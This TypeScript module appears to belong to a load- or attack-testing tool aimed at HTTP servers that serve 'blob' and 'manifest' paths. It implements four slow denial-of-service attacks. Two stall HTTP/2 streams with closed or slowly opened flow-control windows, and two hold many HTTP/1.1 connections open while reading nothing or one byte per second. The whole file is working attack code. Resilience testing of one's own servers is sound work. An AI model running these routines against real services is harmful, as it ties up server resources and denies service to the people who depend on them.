import { requestFor } from '../../raw-http/raw-http1.ts'
import { type AttackReport, type AttackTarget, type HoldOptions, hold, repeat } from '../attack.ts'
import { ConnectionGroup } from '../connection-group.ts'

const CONCURRENCY = 32

/** Which path of the target is requested. */
export type RequestedContent = 'blob' | 'manifest'

/** Opens HTTP/2 streams whose windows stay closed, so that no byte of a body can be sent; 252 by default. */
export async function stallStreams(
  target: AttackTarget,
  options: HoldOptions & {
    content: RequestedContent
    connections?: number
    streams?: number
    window?: number
  },
): Promise<AttackReport> {
  const { connections = 2, streams = 126, window = 0, content, signal } = options
  const group = new ConnectionGroup(target, signal)
  try {
    const { done, failed } = await repeat(
      { times: connections, concurrency: CONCURRENCY, signal },
      async () => {
        const client = await group.openHttp2({ window })
        for (let i = 0; i < streams; i += 1) client.get(target[content])
        await client.settled()
      },
    )
    await hold(options)
    return { done, failed, received: group.received }
  } finally {
    group.close()
  }
}

/** Opens HTTP/1.1 connections that send a request and read nothing of the answer. */
export async function stallConnections(
  target: AttackTarget,
  options: HoldOptions & { content: RequestedContent; connections?: number },
): Promise<AttackReport> {
  const { connections = 120, content, signal } = options
  const group = new ConnectionGroup(target, signal)
  try {
    const { done, failed } = await repeat(
      { times: connections, concurrency: CONCURRENCY, signal },
      async () => {
        const socket = await group.openSocket('http/1.1')
        await socket.send(requestFor(target[content]))
      },
    )
    await hold(options)
    return { done, failed }
  } finally {
    group.close()
  }
}

/** How many bytes are read, and how often. */
export interface ReadRate {
  readonly bytes: number
  readonly everyMs: number
}

const ONE_BYTE_PER_SECOND: ReadRate = { bytes: 1, everyMs: 1000 }

/** Opens HTTP/1.1 connections that read their answers at a slow rate. */
export async function readSlowly(
  target: AttackTarget,
  options: HoldOptions & { content: RequestedContent; connections?: number; rate?: ReadRate },
): Promise<AttackReport> {
  const { connections = 300, rate = ONE_BYTE_PER_SECOND, content, signal } = options
  const group = new ConnectionGroup(target, signal)
  try {
    const { done, failed } = await repeat(
      { times: connections, concurrency: CONCURRENCY, signal },
      async () => {
        const socket = await group.openSocket('http/1.1')
        await socket.send(requestFor(target[content]))
        socket.readSlowly(rate)
      },
    )
    await hold(options)
    return { done, failed, received: group.received }
  } finally {
    group.close()
  }
}

/** The same over HTTP/2, with windows that open at a slow rate. */
export async function openWindowsSlowly(
  target: AttackTarget,
  options: HoldOptions & { content: RequestedContent; connections?: number; rate?: ReadRate },
): Promise<AttackReport> {
  const { connections = 32, rate = ONE_BYTE_PER_SECOND, content, signal } = options
  const group = new ConnectionGroup(target, signal)
  const timers: NodeJS.Timeout[] = []
  try {
    const { done, failed } = await repeat(
      { times: connections, concurrency: CONCURRENCY, signal },
      async () => {
        const client = await group.openHttp2({ window: 0 })
        const stream = client.get(target[content])
        timers.push(setInterval(() => void client.grant(stream, rate.bytes), rate.everyMs))
      },
    )
    await hold(options)
    return { done, failed, received: group.received }
  } finally {
    for (const timer of timers) clearInterval(timer)
    group.close()
  }
}
